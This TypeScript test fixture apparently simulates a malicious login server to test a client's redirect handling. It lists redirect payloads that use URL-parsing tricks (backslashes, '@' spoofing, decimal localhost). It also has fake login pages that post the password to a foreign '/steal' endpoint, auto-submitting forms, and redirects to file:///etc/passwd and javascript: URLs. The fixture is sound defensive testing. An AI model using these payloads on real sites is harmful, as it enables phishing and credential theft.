/** Where a server may try to send a client, and what it would take along. */
import { type Asked, type Mischief, type Place, page, redirect } from "./server.js";

const form = (action: string, more = ""): string =>
  `<form method="post" action="${action}"><input name="username"><input name="password" type="password"><button ${more}>Sign in</button></form>`;
const leading = (to: (asked: Asked) => string, status = 302, at: readonly Place[] = ["authorize"]): Mischief => ({
  at,
  reply: (_, asked) => redirect(to(asked), status),
});
const showing = (markup: (asked: Asked) => string): Mischief => ({
  at: ["login"],
  reply: (_, asked) => page(markup(asked)),
});
const afterPassword = (status: number): Mischief => ({
  at: ["login"],
  reply: (usual, { form: sent, foreign }) => (sent.has("password") ? redirect(`${foreign}/after`, status) : usual),
});
const hostOf = (url: string): string => new URL(url).host;
const portOf = (url: string): string => new URL(url).port;

/** Each leads to another server, one that answers, by a way that the pages of a login may take. */
export const ELSEWHERE: Record<string, Mischief> = {
  ...Object.fromEntries(
    [301, 302, 303, 307, 308].map((status) => [
      `by status ${status}`,
      leading(({ foreign }) => `${foreign}/x`, status),
    ]),
  ),
  "without a scheme": leading(({ foreign }) => foreign.slice("http:".length)),
  "without a scheme, by backslashes": leading(({ foreign }) => foreign.replace("http://", "\\\\")),
  "without a scheme, by a slash and a backslash": leading(({ foreign }) => foreign.replace("http://", "/\\")),
  "without slashes": leading(({ foreign }) => foreign.replace("//", "")),
  "with a tab in the scheme": leading(({ foreign }) => foreign.replace("ttp", "t\ttp")),
  "in capitals": leading(({ foreign }) => foreign.replace("http", "HTTP")),
  "behind our name": leading(({ own, foreign }) => `http://${hostOf(own)}@${hostOf(foreign)}/`),
  "behind our name and a backslash": leading(({ own, foreign }) => `http://${hostOf(foreign)}\\@${hostOf(own)}/`),
  "by the name of this machine": leading(({ foreign }) => `http://localhost:${portOf(foreign)}/`),
  "by the number of this machine": leading(({ foreign }) => `http://2130706433:${portOf(foreign)}/`),
  "after a hop of our own": leading(
    ({ place, own, foreign }) => (place === "authorize" ? `${own}/login` : `${foreign}/x`),
    302,
    ["authorize", "login"],
  ),
  "before another place that is ours": {
    at: ["authorize"],
    reply: (_, { foreign, own }) => ({
      ...redirect(`${foreign}/first`),
      headers: [
        ["location", `${foreign}/first`],
        ["location", `${own}/login`],
      ],
    }),
  },
  "after the login": afterPassword(302),
  "after the login, with the password": afterPassword(307),
  "by a page that moves": showing(({ foreign }) => `<meta http-equiv="refresh" content="0; url=${foreign}/meta">`),
  "by a page that moves, from a base": showing(
    ({ foreign }) => `<base href="${foreign}/"><meta http-equiv="refresh" content="0; url=meta">`,
  ),
  "by the form of the password": showing(({ foreign }) => form(`${foreign}/steal`)),
  "by the button of the password": showing(({ foreign }) => form("/login", `formaction="${foreign}/steal"`)),
  "by the base of the password": showing(({ foreign }) => `<base href="${foreign}/">${form("steal")}`),
  "by a form that sends itself": showing(
    ({ foreign }) =>
      `<body onload="document.forms[0].submit()"><form method="post" action="${foreign}/auto"><input type="hidden" name="code" value="x"></form>`,
  ),
};

/** What is no place on the web. */
export const NO_PAGE: Record<string, Mischief> = {
  "a file": leading(() => "file:///etc/passwd"),
  "a script": leading(() => "javascript:alert(1)"),
  data: leading(() => "data:text/html,<script>1</script>"),
};

let hop = 0;
/** Places of the server's own, one behind the other, without end. */
export const ENDLESS: Record<string, Mischief> = {
  "a place that leads to itself": leading(({ url }) => url.href),
  "two places that lead to each other": leading(({ place }) => (place === "login" ? "/authorize" : "/login"), 302, [
    "authorize",
    "login",
  ]),
  "ever new places": leading(() => `/login/${++hop}`, 302, ["authorize", "login"]),
  "places that grow": leading(({ url }) => `/login?${url.search.slice(1)}${"x".repeat(500)}`, 303, [
    "authorize",
    "login",
  ]),
};

/** Endpoints whose redirects are answers, which nothing follows. */
export const ENDPOINTS = ["metadata", "jwks", "token", "introspect", "revoke", "resource"] as const;
export const answering = (place: Place): Mischief => leading(({ foreign }) => `${foreign}/${place}`, 307, [place]);
